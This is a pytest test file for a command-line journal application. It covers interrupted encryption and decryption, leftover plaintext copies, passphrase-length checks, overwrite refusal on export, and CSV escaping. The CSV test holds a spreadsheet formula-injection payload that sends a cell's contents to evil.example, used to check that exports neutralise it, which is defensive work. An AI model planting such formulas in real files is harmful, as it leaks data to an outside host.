"""Hardening (issue 11): no entry lost to a failed creation, no plaintext left behind, no file
replaced that the journal does not own, and a specific `Error:` line for every bad input."""

from __future__ import annotations

import fcntl
import os
import select
import signal
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest

from helpers import run_journal, subprocess_env


def _controlling_terminal() -> None:
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)


class Terminal:
    """A real `journal` process whose terminal is a pty: the test types at its prompts."""

    def __init__(self, *args: str) -> None:
        self.master, slave = os.openpty()
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "workjournal", *args],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            env=subprocess_env(),
            start_new_session=True,
            preexec_fn=_controlling_terminal,
        )
        os.close(slave)
        self.seen = b""

    def wait_for(self, text: bytes, timeout: float = 30) -> None:
        deadline = time.monotonic() + timeout
        while text not in self.seen:
            left = deadline - time.monotonic()
            assert left > 0, f"never saw {text!r}; saw {self.seen!r}"
            ready, _, _ = select.select([self.master], [], [], left)
            if ready:
                try:
                    chunk = os.read(self.master, 4096)
                except OSError:
                    chunk = b""
                assert chunk, f"the process ended before {text!r}; saw {self.seen!r}"
                self.seen += chunk

    def type(self, text: bytes) -> None:
        os.write(self.master, text)

    def finish(self, timeout: float = 30) -> tuple[int, bytes]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            ready, _, _ = select.select([self.master], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(self.master, 4096)
                except OSError:  # the process closed its terminal
                    chunk = b""
                self.seen += chunk
                if not chunk:
                    break
            elif self.proc.poll() is not None:
                break
        code = self.proc.wait(timeout=5)
        os.close(self.master)
        return code, self.seen


# -- item 1: creating a journal -------------------------------------------------------------


@pytest.mark.parametrize("answer", [b"\x03", b"long enough pass\r"])
def test_a_creation_waiting_for_its_passphrase_never_deletes_another_entry(
    db_path: Path, answer: bytes
) -> None:
    """`add --encrypted` asks for the passphrase before anything is on disk; an entry another
    terminal saved meanwhile survives Ctrl-C, and also matching passphrases."""
    first = Terminal("add", "from the first terminal", "--encrypted")
    first.wait_for(b"New passphrase:")
    assert not db_path.exists()
    second = run_journal("add", "from the second terminal", "-m", "2")
    assert second.returncode == 0, second.stderr
    first.type(answer)
    if answer != b"\x03":
        first.wait_for(b"Repeat the new passphrase:")
        first.type(answer)
    code, seen = first.finish()
    assert code != 0
    assert b"Traceback" not in seen
    if answer != b"\x03":
        assert b"Error: another program created the journal at" in seen
    listed = run_journal("list", "-f", "json")
    assert listed.returncode == 0, listed.stderr
    assert b"from the second terminal" in listed.stdout
    assert b"from the first terminal" not in listed.stdout
    assert sorted(p.name for p in db_path.parent.iterdir() if ".creating" in p.name) == []


# -- items 2 and 3: interrupted encrypt and decrypt -----------------------------------------


def _encrypted_journal(db_path: Path, entries: int = 30) -> None:
    from datetime import UTC, datetime

    from conftest import PASSPHRASE
    from workjournal.models import NewEntry
    from workjournal.store import open_store

    now = datetime(2026, 11, 20, 21, 30, tzinfo=UTC)
    with open_store(db_path, create=True, passphrase=lambda: PASSPHRASE, encrypt_new=True) as store:
        store.add_entries([NewEntry(occurred_at=now, text=f"secret {i}") for i in range(entries)])


def _plain_files(folder: Path, journal: Path) -> list[str]:
    return sorted(
        p.name
        for p in folder.iterdir()
        if p != journal and p.is_file() and p.read_bytes()[:16] == b"SQLite format 3\x00"
    )


def _start_when_converting(db_path: Path, command: str, sig: int) -> subprocess.Popen[bytes]:
    """Run `journal COMMAND` and send ``sig`` the moment its converted copy appears."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "workjournal", command],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        env=subprocess_env(),
    )
    deadline = time.monotonic() + 30
    while proc.poll() is None and time.monotonic() < deadline:
        if any("converting" in name for name in os.listdir(db_path.parent)):
            os.kill(proc.pid, sig)
            break
        time.sleep(0.001)
    proc.wait(timeout=30)
    return proc


def _journal_mode(db_path: Path) -> str:
    from conftest import PASSPHRASE
    from workjournal import crypto

    api = crypto.dbapi()
    conn = api.connect(str(db_path))
    try:
        if looks_encrypted_path(db_path):
            conn.execute(f"PRAGMA key = '{PASSPHRASE}'")
        return str(conn.execute("PRAGMA journal_mode").fetchone()[0])
    finally:
        conn.close()


@pytest.mark.slow
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
def test_a_decrypt_ended_by_a_signal_leaves_no_plain_copy(
    db_path: Path, passphrase_file: Path, sig: int
) -> None:
    _encrypted_journal(db_path)
    for _round in range(3):
        proc = _start_when_converting(db_path, "decrypt", sig)
        assert proc.stderr is not None
        err = proc.stderr.read()
        proc.stderr.close()
        assert b"Traceback" not in err
        # Nothing opened the journal since: the command itself cleaned up.
        assert [n for n in os.listdir(db_path.parent) if "converting" in n] == []
        assert _plain_files(db_path.parent, db_path) == []
        if not looks_encrypted_path(db_path):  # it finished before the signal: again
            assert run_journal("encrypt").returncode == 0


def looks_encrypted_path(path: Path) -> bool:
    from workjournal.store import looks_encrypted

    return looks_encrypted(path)


@pytest.mark.slow
@pytest.mark.parametrize("command", ["decrypt", "encrypt"])
def test_after_a_kill_9_of_a_conversion_the_next_open_cleans_up_and_restores_wal(
    db_path: Path, passphrase_file: Path, command: str
) -> None:
    _encrypted_journal(db_path)
    if command == "encrypt":
        assert run_journal("decrypt").returncode == 0
    for round_ in range(4):
        proc = _start_when_converting(db_path, command, signal.SIGKILL)
        if proc.stderr is not None:
            proc.stderr.close()
        if proc.returncode == 0:  # it finished first: convert back and try again
            other = "encrypt" if command == "decrypt" else "decrypt"
            assert run_journal(other).returncode == 0
            continue
        added = run_journal("add", f"after kill {round_}", "-m", "5")
        assert added.returncode == 0, added.stderr
        assert [n for n in os.listdir(db_path.parent) if "converting" in n] == []
        assert _plain_files(db_path.parent, db_path) == []
        assert _journal_mode(db_path) == "wal"
    listed = run_journal("list", "-n", "1000", "-f", "json")
    assert listed.returncode == 0, listed.stderr
    assert listed.stdout.count(b"secret ") == 30


def test_doctor_reports_a_plain_copy_beside_an_encrypted_journal(
    db_path: Path, passphrase_file: Path
) -> None:
    assert run_journal("add", "before encrypting", "-m", "5").returncode == 0
    assert run_journal("encrypt", "--keep-plain-backup").returncode == 0
    [copy] = _plain_files(db_path.parent, db_path)
    result = run_journal("doctor")
    assert result.returncode == 1
    out = result.stdout.decode()
    assert "plain copies" in out
    assert f"1 unencrypted copy of the journal beside it ({copy})" in out
    assert f"rm {db_path.parent / copy}" in out
    assert "All is well" not in out


def test_a_new_passphrase_shorter_than_8_characters_is_refused(
    db_path: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    short = isolated / "home" / "short"
    short.write_text("seven77\n")
    short.chmod(0o600)
    monkeypatch.setenv("WORKJOURNAL_PASSPHRASE_FILE", str(short))
    result = run_journal("add", "first", "--encrypted")
    assert result.returncode == 1
    assert result.stderr == (
        b"Error: the new passphrase from WORKJOURNAL_PASSPHRASE_FILE is shorter than 8 "
        b"characters; choose a longer one (a few unrelated words are easy to remember). "
        b"Nothing was changed.\n"
    )
    assert not db_path.exists()


# -- item 10: export --out ------------------------------------------------------------------


def test_export_out_refuses_an_existing_file_unless_force(isolated: Path) -> None:
    from helpers import invoke

    assert invoke("add", "an entry", "-m", "5").exit_code == 0
    target = isolated / "home" / ".bashrc"
    target.write_text("keep me\n")
    refused = invoke("export", "-f", "json", "-o", str(target))
    assert refused.exit_code == 1
    assert refused.stderr == (
        f"Error: {target} already exists; nothing was written. Add --force to replace it, or "
        "choose another file for --out.\n"
    )
    assert target.read_text() == "keep me\n"
    forced = invoke("export", "-f", "json", "-o", str(target), "--force")
    assert forced.exit_code == 0, forced.stderr
    assert "an entry" in target.read_text()
    to_stdout = invoke("export", "-f", "json", "-o", "-")
    assert to_stdout.exit_code == 0
    assert "an entry" in to_stdout.stdout
    assert not (Path.cwd() / "-").exists()


# -- item 5: formulas in CSV ----------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text() -> None:
    import csv
    import io
    import json

    from helpers import invoke

    evil = '=HYPERLINK("http://evil.example/?d="&B3,"click")'
    assert invoke("add", evil, "-m", "5", "-t", "+ good day", "-g", "@home").exit_code == 0
    assert invoke("add", "-m", "3", "--", "-2 today").exit_code == 0
    for result in (invoke("export", "-f", "csv"), invoke("list", "-f", "csv")):
        assert result.exit_code == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
        by_text = {row["text"]: row for row in rows}
        assert set(by_text) == {"'" + evil, "'-2 today"}
        assert by_text["'" + evil]["triggers"] == "'+ good day"
        assert by_text["'" + evil]["tags"] == "'@home"
    exported = json.loads(invoke("export", "-f", "json").stdout)
    assert {e["text"] for e in exported["entries"]} == {evil, "-2 today"}
